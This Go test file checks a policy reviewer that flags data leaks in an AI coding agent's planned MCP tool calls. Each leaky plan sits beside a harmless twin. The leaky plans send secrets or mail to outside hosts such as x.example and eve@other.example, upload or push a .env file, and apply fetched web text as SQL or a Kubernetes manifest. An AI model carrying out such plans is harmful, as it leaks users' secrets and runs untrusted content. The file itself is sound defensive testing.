package policy

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestPackFlows holds leaks from one server to another, with the ids of their
// findings, each beside a harmless twin that has none.
func TestPackFlows(t *testing.T) {
	const (
		issue  = "  - {id: issue, tool: mcp__github__issue_read, args: {method: get, owner: acme, repo: core, issue_number: 4}}\n"
		mail   = "  - {id: mail, tool: mcp__gmail__read_email, args: {messageId: m1}}\n"
		page   = "  - {id: page, tool: mcp__notion__API-retrieve-page-markdown, args: {page_id: p1}}\n"
		rows   = "  - {id: rows, tool: mcp__postgres__query, args: {sql: select email from users}}\n"
		graph  = "  - {id: graph, tool: mcp__memory__search_nodes, args: {query: projects}}\n"
		alert  = "  - {id: alert, tool: mcp__github__get_secret_scanning_alert, args: {owner: acme, repo: core, alertNumber: 1}}\n"
		web    = "  - {id: web, tool: mcp__fetch__fetch, args: {url: \"https://docs.example/\"}}\n"
		staff  = "audiences: {\"slack:C1\": [staff], \"notion:workspace\": [staff], \"github:acme/core\": [staff]}\n"
		public = "audiences: {\"github:acme/site\": [everyone]}\n"
	)
	cases := []struct{ name, policy, plan, want string }{
		{"a private repository's issue is posted to Slack", "",
			issue + "  - {tool: mcp__slack__slack_post_message, args: {channel_id: C1, text: \"new: ${issue.output.title}\"}}\n", "PL1002"},
		{"the channel's members may see the repository", staff,
			issue + "  - {tool: mcp__slack__slack_post_message, args: {channel_id: C1, text: \"new: ${issue.output.title}\"}}\n", ""},
		{"text of an issue chooses the Slack channel", staff,
			issue + "  - {tool: mcp__slack__slack_post_message, args: {channel_id: \"${issue.output.body}\", text: hello}}\n", "PL1002 PL1004"},
		{"the issue's number goes into a constant channel", staff,
			issue + "  - {tool: mcp__slack__slack_post_message, args: {channel_id: C1, text: \"issue ${issue.output.number} is done\"}}\n", ""},

		{"a Notion page becomes a search term", "",
			page + "  - {tool: mcp__brave-search__brave_web_search, args: {query: \"${page.output}\"}}\n", "PL1002"},
		{"a search beside the page", "",
			"  - {tool: mcp__brave-search__brave_web_search, args: {query: go generics}}\n" + page, ""},

		{"rows of a database get into a public repository", public,
			rows + "  - {tool: mcp__github__add_issue_comment, args: {owner: acme, repo: site, issue_number: 1, body: \"${rows.output}\"}}\n", "PL1002"},
		{"rows are looked up again", public,
			rows + "  - {tool: mcp__postgres__query, args: {sql: select 1}}\n", ""},

		{"what is remembered is put into an address", "",
			graph + "  - {tool: mcp__fetch__fetch, args: {url: \"https://x.example/?q=${graph.output}\"}}\n", "PL1002"},
		{"an address beside what is remembered", "",
			graph + "  - {tool: mcp__fetch__fetch, args: {url: \"https://docs.example/\"}}\n", ""},
		{"a secret is remembered, and a later search of the memory goes into an address", "",
			alert + "  - {tool: mcp__memory__create_entities, args: {entities: [{name: key, entityType: secret, observations: [\"${alert.output}\"]}]}}\n" +
				graph + "  - {tool: mcp__fetch__fetch, args: {url: \"https://x.example/?q=${graph.output}\"}}\n", "PL1001 PL1002"},
		{"a secret is remembered and nothing leaves", "",
			alert + "  - {tool: mcp__memory__create_entities, args: {entities: [{name: key, entityType: secret, observations: [\"${alert.output}\"]}]}}\n", ""},

		{"the text of a mail names the guest of an event", "",
			mail + "  - {tool: mcp__google-calendar__create-event, args: {calendarId: primary, summary: talk, start: a, end: b, attendees: [{email: \"${mail.output.body}\"}]}}\n", "PL1002 PL1004"},
		{"a guest whom the plan names", "",
			"  - {tool: mcp__google-calendar__create-event, args: {calendarId: primary, summary: talk, start: a, end: b, attendees: [{email: ann@partner.example}]}}\n" + mail, ""},

		{"a mail is forwarded to a stranger", "",
			mail + "  - {tool: mcp__gmail__send_email, args: {to: [eve@other.example], subject: fw, body: \"${mail.output.body}\"}}\n", "PL1002"},
		{"a mail is put into the user's drafts", "",
			mail + "  - {tool: mcp__gmail__draft_email, args: {to: [eve@other.example], subject: fw, body: \"${mail.output.body}\"}}\n", ""},

		{"a found secret is commented on the issue", "",
			alert + "  - {tool: mcp__github__add_issue_comment, args: {owner: acme, repo: core, issue_number: 1, body: \"leaked: ${alert.output.secret}\"}}\n", "PL1001"},
		{"the comment comes first", "",
			"  - {tool: mcp__github__add_issue_comment, args: {owner: acme, repo: core, issue_number: 1, body: looking}}\n" + alert, ""},

		{"a web page becomes a statement", "",
			web + "  - {tool: mcp__supabase__execute_sql, args: {project_id: p, query: \"${web.output}\"}}\n", "PL1005"},
		{"a web page becomes a commit message", "",
			web + "  - {tool: mcp__git__git_commit, args: {repo_path: /srv/app, message: \"${web.output}\"}}\n", ""},
		{"a web page becomes a manifest", "",
			web + "  - {tool: mcp__kubernetes__kubectl_apply, args: {manifest: \"${web.output}\"}}\n", "PL1003 PL1005"},
		{"a web page becomes a file, the file a manifest", "",
			web + "  - {tool: mcp__filesystem__write_file, args: {path: /srv/app/web.yaml, content: \"${web.output}\"}}\n" +
				"  - {tool: mcp__kubernetes__kubectl_apply, args: {filename: /srv/app/web.yaml}}\n", "PL1003 PL1005 PL3003"},
		{"a manifest that was there is applied beside it", "",
			web + "  - {tool: mcp__filesystem__write_file, args: {path: /srv/app/notes.md, content: \"${web.output}\"}}\n" +
				"  - {tool: mcp__kubernetes__kubectl_apply, args: {filename: /srv/app/web.yaml}}\n", ""},

		{"a file of secrets is uploaded by the browser", "",
			"  - {tool: mcp__playwright__browser_file_upload, args: {paths: [/srv/app/.env]}}\n", "PL1001"},
		{"a picture is uploaded by the browser", "",
			"  - {tool: mcp__playwright__browser_file_upload, args: {paths: [/srv/app/logo.png]}}\n", ""},

		{"a secret that Redis kept is sent by mail", "",
			alert + "  - {tool: mcp__redis__set, args: {key: k, value: \"${alert.output.secret}\"}}\n" +
				"  - {id: r, tool: mcp__redis__get, args: {key: k}}\n" +
				"  - {tool: mcp__gmail__send_email, args: {to: [eve@other.example], subject: s, body: \"${r.output}\"}}\n", "PL1001 PL1002"},
		{"a secret lies under another key", "settings: {precision: resource}\n",
			alert + "  - {tool: mcp__redis__set, args: {key: other, value: \"${alert.output.secret}\"}}\n" +
				"  - {id: r, tool: mcp__redis__get, args: {key: k}}\n" +
				"  - {tool: mcp__slack__slack_post_message, args: {channel_id: C1, text: hello}}\n", ""},

		{"a Kubernetes secret goes to an issue", "",
			"  - {id: s, tool: mcp__kubernetes__kubectl_get, args: {resourceType: secrets, name: db}}\n" +
				"  - {tool: mcp__linear__save_comment, args: {issueId: ENG-1, body: \"${s.output}\"}}\n", "PL1001 PL1002"},
		{"pods are listed and something else is commented", "settings: {precision: resource}\n",
			"  - {id: s, tool: mcp__kubernetes__kubectl_get, args: {resourceType: pods}}\n" +
				"  - {tool: mcp__linear__save_comment, args: {issueId: ENG-1, body: done}}\n", ""},

		{"secrets of a repository are staged, committed and pushed", "",
			"  - {tool: mcp__git__git_add, args: {repo_path: /srv/app, files: [.env]}}\n" +
				"  - {tool: mcp__git__git_commit, args: {repo_path: /srv/app, message: wip}}\n" +
				"  - {tool: Bash, args: {command: git push https://github.com/acme/site main}}\n", "PL1001"},
		{"sources are staged, committed and pushed", "",
			"  - {tool: mcp__git__git_add, args: {repo_path: /srv/app, files: [main.go]}}\n" +
				"  - {tool: mcp__git__git_commit, args: {repo_path: /srv/app, message: wip}}\n" +
				"  - {tool: Bash, args: {command: git push https://github.com/acme/site main}}\n", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := review(t, "coding-agent", c.policy, "calls:\n"+c.plan)
			var ids []string
			for _, f := range r.Findings {
				ids = append(ids, f.ID)
			}
			// PL1006 speaks of the same way out as PL1002, on less evidence.
			if slices.Contains(ids, "PL1002") {
				ids = slices.DeleteFunc(ids, func(id string) bool { return id == "PL1006" })
			}
			slices.Sort(ids)
			got := strings.Join(slices.Compact(ids), " ")
			if got != c.want {
				for _, f := range r.Findings {
					t.Logf("%s %s", f.ID, f.Message)
				}
			}
			require.Equal(t, c.want, got)
		})
	}
}
